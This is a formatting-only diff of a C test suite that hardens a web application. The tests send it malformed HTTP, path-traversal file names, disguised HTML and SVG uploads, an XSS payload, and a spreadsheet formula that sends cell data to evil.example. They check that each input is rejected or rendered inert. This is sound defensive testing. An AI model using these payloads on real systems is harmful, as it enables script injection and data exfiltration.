@@ -32,7 +32,7 @@
 #include <time.h>
 #include <unistd.h>
 
-#define PW "correct horse battery"
+#define PW       "correct horse battery"
 #define MAX_BODY 1000000
 
 static h_server srv;
@@ -78,7 +78,7 @@ typedef struct raw_resp {
     int status; /* 0: closed without an answer */
     char *text; /* headers and body received (NUL-terminated) */
     size_t len;
-    int closed; /* the server closed the connection */
+    int closed;  /* the server closed the connection */
     size_t sent; /* bytes of the request the server took */
 } raw_resp;
 
@@ -226,8 +226,7 @@ static void post_api(h_resp *r, const char *body, size_t len,
 
 /* 422 with an error on field (exact path), or on any field when field is
  * NULL. */
-static void expect_api_422(const char *what, const h_resp *r,
-                           const char *field)
+static void expect_api_422(const char *what, const h_resp *r, const char *field)
 {
     cJSON *j, *e;
     int found = 0;
@@ -377,8 +376,8 @@ static void test_bad_input__http_framing(void **state)
          "application/x-www-form-urlencoded\r\nContent-Length: 3\r\n"
          "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
          400},
-        {"no Host header",
-         "GET /healthz HTTP/1.1\r\nUser-Agent: x\r\n\r\n", 400},
+        {"no Host header", "GET /healthz HTTP/1.1\r\nUser-Agent: x\r\n\r\n",
+         400},
         {"unknown method", "BREW /requests HTTP/1.1\r\nHost: x\r\n\r\n", 405},
         {"method a route does not take",
          "DELETE /requests/new HTTP/1.1\r\nHost: x\r\n\r\n", 405},
@@ -736,8 +735,8 @@ static void test_bad_input__json(void **state)
         {"string for a boolean", "consent_related", "\"yes\"",
          "consent_related"},
         {"unknown kind", "items[0].kind", "\"drop_table\"", "items[0].kind"},
-        {"unknown type", "items[0].columns[0].type",
-         "\"varchar(20); drop\"", "items[0].columns[0].type"},
+        {"unknown type", "items[0].columns[0].type", "\"varchar(20); drop\"",
+         "items[0].columns[0].type"},
     };
     static const struct {
         const char *what, *body, *field;
@@ -807,7 +806,8 @@ static void test_bad_input__json_nested_100000_deep(void **state)
     case_end("JSON nested 100,000 deep");
 }
 
-/* ---- attachments ---------------------------------------------------------- */
+/* ---- attachments ----------------------------------------------------------
+ */
 
 #define BOUNDARY "----hardeningboundary9f8e7d"
 
@@ -817,7 +817,6 @@ static void upload(h_resp *r, const char *filename, size_t namelen,
     buf b = {0};
     char *fields = NULL;
     const char *p;
-
 
     buf_puts(&b, "--" BOUNDARY "\r\nContent-Disposition: form-data; "
                  "name=\"csrf\"\r\n\r\n");
@@ -883,14 +882,12 @@ static void test_bad_input__attachments(void **state)
     } cases[] = {
         {"name is only ../", "../../", 6, "text/csv", csv, sizeof csv - 1},
         {"name is ..", "..", 2, "text/csv", csv, sizeof csv - 1},
-        {"NUL in the name", "a\0.exe.csv", 10, "text/csv", csv,
-         sizeof csv - 1},
+        {"NUL in the name", "a\0.exe.csv", 10, "text/csv", csv, sizeof csv - 1},
         {"tab in the name", "a\tb.csv", 7, "text/csv", csv, sizeof csv - 1},
         {"HTML named .html", "page.html", 9, "text/html", html,
          sizeof html - 1},
         {"HTML named .csv", "page.csv", 8, "text/csv", html, sizeof html - 1},
-        {"SVG named .svg", "logo.svg", 8, "image/svg+xml", svg,
-         sizeof svg - 1},
+        {"SVG named .svg", "logo.svg", 8, "image/svg+xml", svg, sizeof svg - 1},
         {"SVG named .txt", "logo.txt", 8, "text/plain", svg, sizeof svg - 1},
         {"script inside a CSV", "rows.csv", 8, "text/csv", xhtml,
          sizeof xhtml - 1},
@@ -973,7 +970,8 @@ static void test_bad_input__attachment_names_sanitised(void **state)
     assert_int_equal(h_db_int(&srv, path), 200);
 }
 
-/* ---- passwords ------------------------------------------------------------ */
+/* ---- passwords ------------------------------------------------------------
+ */
 
 static void test_bad_input__huge_passwords(void **state)
 {
@@ -1010,7 +1008,8 @@ static void test_bad_input__huge_passwords(void **state)
     free(body);
 }
 
-/* ---- identifiers in URLs and queries -------------------------------------- */
+/* ---- identifiers in URLs and queries --------------------------------------
+ */
 
 static void test_bad_input__urls_and_queries(void **state)
 {
@@ -1050,9 +1049,9 @@ static void test_bad_input__urls_and_queries(void **state)
 static void test_bad_input__search_syntax(void **state)
 {
     static const char *const qs[] = {
-        "%22",       "AND",        "a%20OR",     "NEAR(",   "*",
-        "title%3Ax", "%5E",        "a%20-b",     "%28%28", "col%3A%22",
-        "%27%3B",    "%E2%80%AE",  "%00",        "%ff%fe"};
+        "%22",       "AND",       "a%20OR", "NEAR(",  "*",
+        "title%3Ax", "%5E",       "a%20-b", "%28%28", "col%3A%22",
+        "%27%3B",    "%E2%80%AE", "%00",    "%ff%fe"};
     h_resp r;
     char path[128];
 
@@ -1075,14 +1074,14 @@ static void test_bad_input__search_syntax(void **state)
 
 /* ---- hostile text that is accepted comes out inert ----------------------- */
 
-#define XSS "\"><script>alert(1)</script><img src=x onerror=alert(2)>"
+#define XSS     "\"><script>alert(1)</script><img src=x onerror=alert(2)>"
 #define FORMULA "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
 
 static void expect_inert(const char *what, const char *page)
 {
-    static const char *const raw[] = {"<script>alert", "<img src=x",
-                                      "href=\"javascript:",
-                                      "src=\"javascript:"};
+    static const char *const raw[] = {
+        "<script>alert", "<img src=x",
+        "href=\"javascript:", "src=\"javascript:"};
 
     for (size_t i = 0; i < sizeof raw / sizeof *raw; i++)
         if (strstr(page, raw[i]))
@@ -1111,10 +1110,15 @@ static void expect_no_formula(const char *what, const char *csv)
 
 static void test_bad_input__hostile_text_is_inert_everywhere(void **state)
 {
-    static const char *const fields[] = {
-        "title", "summary", "consent_note", "items[0].description",
-        "items[0].campaign_note", "items[0].examples", "items[0].notes",
-        "items[0].columns[0].description", "items[0].columns[0].example"};
+    static const char *const fields[] = {"title",
+                                         "summary",
+                                         "consent_note",
+                                         "items[0].description",
+                                         "items[0].campaign_note",
+                                         "items[0].examples",
+                                         "items[0].notes",
+                                         "items[0].columns[0].description",
+                                         "items[0].columns[0].example"};
     char *body = strdup(api_base), *tmp, path[128], *dir = NULL;
     cJSON *j;
     h_resp r;
@@ -1140,8 +1144,8 @@ static void test_bad_input__hostile_text_is_inert_everywhere(void **state)
                 node = cJSON_GetObjectItem(node, key);
                 p += n;
                 while (*p == '[') {
-                    node = cJSON_GetArrayItem(node,
-                                              (int)strtol(p + 1, NULL, 10));
+                    node =
+                        cJSON_GetArrayItem(node, (int)strtol(p + 1, NULL, 10));
                     p = strchr(p, ']') + 1;
                 }
                 p++;
@@ -1178,8 +1182,10 @@ static void test_bad_input__hostile_text_is_inert_everywhere(void **state)
     h_resp_free(&r);
     free(body);
 
-    body = api_with("title", "\"" "=HYPERLINK(\\\"http://evil.example/?\\\"&A1,"
-                    "\\\"click\\\")" "\"");
+    body = api_with("title", "\""
+                             "=HYPERLINK(\\\"http://evil.example/?\\\"&A1,"
+                             "\\\"click\\\")"
+                             "\"");
     post_api(&r, body, strlen(body), "application/json");
     expect_status("formula title", r.status, 201, r.body);
     j = cJSON_Parse(r.body);
@@ -1231,8 +1237,8 @@ static void test_bad_input__hostile_text_is_inert_everywhere(void **state)
           "hostile_t,tier,string(20),@SUM(A1:A9),-2+3,\n",
           f);
     fclose(f);
-    if (h_docket(&srv, NULL, &out, "import", "--instance", "acme-qa",
-                 csvfile, NULL) != 0)
+    if (h_docket(&srv, NULL, &out, "import", "--instance", "acme-qa", csvfile,
+                 NULL) != 0)
         fail_msg("import: %s", out);
     free(out);
     h_get(&r, &srv, &pat, "/tables/acme-qa/hostile_t");
@@ -1240,8 +1246,8 @@ static void test_bad_input__hostile_text_is_inert_everywhere(void **state)
     expect_inert("table page", r.body);
     h_resp_free(&r);
     snprintf(outdir, sizeof outdir, "%s/export", srv.dir);
-    if (h_docket(&srv, NULL, &out, "export", "--format", "csv", "--out",
-                 outdir, NULL) != 0)
+    if (h_docket(&srv, NULL, &out, "export", "--format", "csv", "--out", outdir,
+                 NULL) != 0)
         fail_msg("export: %s", out);
     free(out);
     snprintf(csvfile, sizeof csvfile, "%s/acme-qa.csv", outdir);
